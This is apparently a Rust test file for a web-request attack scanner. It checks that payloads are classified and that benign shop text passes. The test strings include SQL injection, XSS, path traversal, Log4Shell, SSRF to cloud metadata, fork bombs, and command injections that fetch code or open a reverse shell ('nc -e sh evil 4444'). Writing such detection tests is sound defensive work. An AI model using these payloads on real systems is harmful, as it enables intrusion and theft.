use super::*;

#[test]
fn detects_classic_payloads() {
    let cases = [
        ("1' OR '1'='1' --", Attack::Sqli),
        ("1 UNION SELECT username, password FROM users", Attack::Sqli),
        ("<script>alert(1)</script>", Attack::Xss),
        ("<img src=x onerror=alert(1)>", Attack::Xss),
        ("../../../../etc/passwd", Attack::Traversal),
        ("..%2f..%2f..%2fetc%2fpasswd", Attack::Traversal),
        ("http://198.51.100.7/shell.txt?", Attack::Rfi),
        ("x; cat /etc/hosts", Attack::Traversal),
        ("127.0.0.1; wget http://evil/x", Attack::Cmdi),
        ("a | nc -e sh evil 4444", Attack::Cmdi),
        ("<?php system('id'); ?>", Attack::Php),
        ("${jndi:ldap://evil/a}", Attack::Java),
        ("${${::-j}${::-n}di:ldap://evil/a}", Attack::Java),
        ("$&lbrace;jndi:ldap://evil/a}", Attack::Java),
        ("java.ProcessBuilder", Attack::Java),
        ("eval($_GET['x'])", Attack::Php),
        ("exec /*x*/ ('id')", Attack::Php),
        ("$f(101)", Attack::Php),
        ("${'a'}(1)", Attack::Php),
        ("O:8:\"stdClass\":0:{}", Attack::Php),
        ("allow_url_include=On", Attack::Php),
        ("' OR '{\"a\":1}'::jsonb @> '{\"a\":1}'", Attack::Sqli),
        ("; DROP TABLE users", Attack::Sqli),
        ("Xunionselectfrom", Attack::Sqli),
        ("{\"$where\": \"1\"}", Attack::Sqli),
        ("u[$ne]", Attack::Sqli),
        ("pg_sleep", Attack::Sqli),
        ("\" onmouseover=alert(1) x=\"", Attack::Xss),
        ("<f o r m action=x>", Attack::Xss),
        ("self[\"alert\"](1)", Attack::Xss),
        ("[].sort.call`1`", Attack::Xss),
        ("javascript:alert(1)", Attack::Xss),
        ("time sh -c whoami", Attack::Cmdi),
        ("; mshta http://evil/x.hta", Attack::Cmdi),
        ("() { :; }; /bin/bash -c id", Attack::Cmdi),
        ("*)(uid=*))(|(uid=*", Attack::Ldap),
        ("http://169.254.169.254/latest/meta-data/", Attack::Ssrf),
        ("http://0x7f000001/admin", Attack::Ssrf),
        ("require('child_process').exec('id')", Attack::Nodejs),
        ("GET http://evil/ HTTP/1.1", Attack::Protocol),
    ];
    for (payload, expected) in cases {
        assert_eq!(scan_value(payload), Some(expected), "{payload}");
    }
}

#[test]
fn benign_text_passes() {
    for v in [
        "O'Brien",
        "Conan O'Brien's new show",
        "rock & roll; jazz",
        "price: $100 (incl. VAT)",
        "Straße 12, 10115 Berlin",
        "田中太郎",
        "https://shop.example.com/item/42",
        "I'd like 2 tickets, please!",
        "select your size",
        "SPRING-2026",
        "user@example.com",
        "A & B | C",
        "select your size",
        "drop-off point; union jack tote",
        "script font mug",
        "alert me when back in stock",
        "update my address; delete my old card",
        "system of a down t-shirt",
        "ruby red earrings",
        "python snakeskin boots",
        "sleep mask",
        "ping pong table",
        "time to order",
        "FREE-SHIP",
        "AT&T; C++ Primer (2nd ed.)",
        "5' x 8' rug",
        "Levi's 501® (32/34)",
        "Call me at +1 (555) 010-2030; thanks!",
        "I don't like it; it's too small (size M) & the color's off.",
        "Łódź, ul. Piotrkowska 12/3",
        "Zürich; São Paulo; 東京都渋谷区 1-2-3",
        "https://shop.example.com/search?q=red+shoes&page=2",
        "Great product!!! 5/5 would buy again :) #happy",
        "Order #12345 (gift) — please wrap it",
        "100% cotton, 50% off today only",
        "The system (beta) works; the file (PDF) too",
    ] {
        assert_eq!(scan_value(v), None, "{v}");
    }
}

/// Paths and header values answer the same from the per-thread caches as scanned afresh, and a
/// params string the body already had is still judged (once).
#[test]
fn cached_and_remembered_scans_answer_as_fresh_ones() {
    let none = std::iter::empty::<(&str, &str)>;
    for _ in 0..3 {
        for (path, want) in [
            ("/api/cart/add", None),
            ("/.git/config", Some(Attack::Traversal)),
            ("/static/..%2f..%2fetc/passwd", Some(Attack::Traversal)),
            ("/search/1' OR '1'='1' --", Some(Attack::Sqli)),
            ("/a\r\nSet-Cookie: x", Some(Attack::Protocol)),
            ("/a%0d%0aSet-Cookie:%20x", Some(Attack::Protocol)),
        ] {
            let found = scan_request(path, "", "", None, none());
            assert_eq!(found.map(|(a, _)| a), want, "{path}");
            assert_eq!(
                path_attack(path).or_else(|| scan_value(path)),
                want,
                "{path}"
            );
        }
        let ua = [("user-agent", "Mozilla/5.0 <script>alert(1)</script>")];
        let found = scan_request("/", "", "", None, ua.into_iter());
        assert_eq!(found, Some((Attack::Xss, "header")));
    }
    let params = serde_json::json!({"q": "ok", "r": "1' OR '1'='1' --"});
    let body = r#"{"q": "ok", "n": 1}"#;
    let found = scan_request("/", "", body, Some(&params), none());
    assert_eq!(found, Some((Attack::Sqli, "params")));
    let body = r#"{"q": "1' OR '1'='1' --"}"#;
    let params = serde_json::json!({"q": "1' OR '1'='1' --"});
    let found = scan_request("/", "", body, Some(&params), none());
    assert_eq!(found, Some((Attack::Sqli, "body")));
}

/// Node.js: serialised functions, the module system, file system calls, endless loops; and prose
/// with the same words passes.
#[test]
fn nodejs_code_and_endless_loops_are_found_and_prose_passes() {
    for v in [
        r#"{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}"#,
        "String.fromCharCode(114,101,113,117,105,114,101)",
        "module.exports = function(){}",
        "while(!0){}",
        "while ( true ) {}",
        "while (!!\"yes\") x++",
        "while(new Date()) {}",
        "while ([]) {}",
        "for (;;) {}",
        "for(let i = 0;; i++){}",
        "do { x++ } while (1)",
        "fs.readFile('/etc/hosts', cb)",
    ] {
        assert_eq!(scan_value(v), Some(Attack::Nodejs), "{v}");
    }
    for v in [
        "We waited a while (new shoes arrived on Monday) and then ordered",
        "Thanks for (almost) everything",
        "worth the while (truly) and well made",
        "It took a while (two weeks) to arrive",
        "for (a; b) see the manual",
        "meanwhile (true story) the parcel came",
    ] {
        assert_eq!(scan_value(v), None, "{v}");
    }
}

/// Uploads the server would run, by multipart file name or by the file-name headers.
#[test]
fn script_uploads_are_refused_by_file_name() {
    let body = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"cmd.jsp\"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n";
    let got = scan_request(
        "/upload",
        "",
        body,
        None,
        [("content-type", "multipart/form-data; boundary=b")].into_iter(),
    );
    assert_eq!(got.map(|(a, _)| a), Some(Attack::Java));
    for (h, v, want) in [
        ("X-Filename", "shell.php", Some(Attack::Php)),
        ("x-file-name", "a.aspx", Some(Attack::Cmdi)),
        ("X_Filename", ".htaccess", Some(Attack::Cmdi)),
        ("X-Filename", "holiday.jpg", None),
    ] {
        let got = scan_request("/upload", "", "", None, [(h, v)].into_iter());
        assert_eq!(got.map(|(a, _)| a), want, "{h}: {v}");
    }
}

/// Shell syntax without a command name spelled out: brace lists led by an empty item, tilde
/// expansion, wildcard paths, function definitions; and look-alike prose passes.
#[test]
fn shell_expansions_are_found_and_lookalikes_pass() {
    for v in [
        "{,ifconfig}",
        "cat ~+/secret",
        "cd ~-",
        "/???/??t /???/p??s??",
        "x;/e*c/pa*wd",
        ":(){ :|:& };:",
        "f(){ f|f& };f",
    ] {
        assert_eq!(scan_value(v), Some(Attack::Cmdi), "{v}");
    }
    for v in [
        "about ~-5 degrees tonight",
        "/search?q=shoes",
        "Rated 5* by /r/sneakers",
        "{size,colour}",
        "call me() { maybe }",
        "https://example.com/a/b?c=d",
    ] {
        assert_eq!(scan_value(v), None, "{v}");
    }
}
